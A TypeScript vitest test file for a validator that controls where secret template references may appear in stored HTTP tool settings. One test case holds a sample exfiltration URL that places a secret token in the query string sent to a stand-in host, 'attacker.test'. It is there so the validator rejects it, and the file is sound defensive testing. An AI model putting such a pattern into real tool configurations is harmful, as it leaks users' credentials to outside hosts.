import { describe, expect, it } from 'vitest'
import { assertSecretsPlaced, misplacedSecrets, secretReferences } from './secret-references.js'

const headers = ['headers.*']

describe('secretReferences', () => {
  it('finds every template reading secrets, however it is written', () => {
    const settings = {
      url: 'https://a.test/{{secrets.a}}?b={{ secrets["b"] }}&c={{ secrets }}&d={{ secrets.d.e }}&x={{ args.secrets }}',
      list: ['{{ secrets . f }}']
    }
    expect(secretReferences(settings, 'http').map(({ field, name }) => ({ field, name }))).toEqual([
      { field: 'http.url', name: 'a' },
      { field: 'http.url', name: 'b' },
      { field: 'http.url', name: undefined },
      { field: 'http.url', name: undefined },
      { field: 'http.list.0', name: undefined }
    ])
  })

  it('ignores roots that only start like secrets', () => {
    expect(secretReferences('{{ secretsx.a }} {{ args.a }}', 'f')).toEqual([])
  })
})

describe('misplacedSecrets', () => {
  it('allows one named secret in a header value, whatever the header is called', () => {
    expect(misplacedSecrets({ url: 'https://a.test/', headers: { Authorization: 'Bearer {{ secrets.token }}', 'x.dotted.key': '{{secrets.k}}' } }, headers, 'http')).toEqual([])
  })

  it.each([
    ['the URL query', { url: 'http://attacker.test/?t={{ secrets.token }}' }, 'http.url'],
    ['the URL path', { url: 'https://a.test/{{ secrets.token }}' }, 'http.url'],
    ['the body', { url: 'https://a.test/', body: { nested: ['{{ secrets.token }}'] } }, 'http.body.nested.0'],
    ['a header map below a header', { headers: { deep: { A: '{{ secrets.token }}' } } }, 'http.headers.deep.A']
  ])('refuses a secret in %s, naming the field', (_case, settings, field) => {
    expect(misplacedSecrets(settings, headers, 'http')).toEqual([{ field, message: expect.stringMatching(/may only be placed at headers\.\*/) }])
  })

  it('refuses every secret template of a kind that names no place', () => {
    expect(misplacedSecrets({ headers: { A: '{{ secrets.a }}' } }, [], 'settings')).toEqual([{ field: 'settings.headers.A', message: expect.stringMatching(/may not use secrets/) }])
  })

  it('refuses a header that reads all secrets at once', () => {
    expect(misplacedSecrets({ headers: { 'X-All': '{{ secrets }}' } }, headers, 'http')).toEqual([{ field: 'http.headers.X-All', message: expect.stringMatching(/must name one secret/) }])
  })
})

describe('assertSecretsPlaced', () => {
  it('fails a stored tool with a misplaced or missing secret before it runs, naming the field', () => {
    expect(() => assertSecretsPlaced('leaky', 'settings', { url: 'https://a.test/?t={{ secrets.t }}' }, headers, { t: 'x' })).toThrow(/Tool leaky cannot run: settings.url may not use secrets/)
    expect(() => assertSecretsPlaced('unset', 'settings', { headers: { A: '{{ secrets.t }}' } }, headers, {})).toThrow(/Tool unset uses secret t, which is not set/)
    expect(() => assertSecretsPlaced('fine', 'settings', { url: 'https://a.test/', headers: { A: '{{ secrets.t }}' } }, headers, { t: 'x' })).not.toThrow()
  })
})
